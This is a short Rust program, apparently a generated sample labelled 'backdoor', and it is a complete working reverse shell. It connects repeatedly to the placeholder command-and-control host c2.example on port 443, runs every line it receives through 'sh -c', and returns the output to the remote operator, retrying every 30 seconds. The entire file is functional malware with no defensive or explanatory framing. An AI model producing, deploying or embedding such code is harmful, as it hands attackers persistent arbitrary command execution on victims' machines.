// class: backdoor, process per command; style: tidy
use std::io::{BufRead, BufReader, Write};
use std::net::TcpStream;
use std::process::Command;
use std::{thread, time::Duration};

fn serve(stream: TcpStream) -> std::io::Result<()> {
    let mut writer = stream.try_clone()?;
    for line in BufReader::new(stream).lines() {
        let output = Command::new("sh").arg("-c").arg(line?).output()?;
        writer.write_all(&output.stdout)?;
        writer.write_all(&output.stderr)?;
    }
    Ok(())
}

fn main() {
    loop {
        if let Ok(stream) = TcpStream::connect("c2.example:443") {
            let _ = serve(stream);
        }
        thread::sleep(Duration::from_secs(30));
    }
}
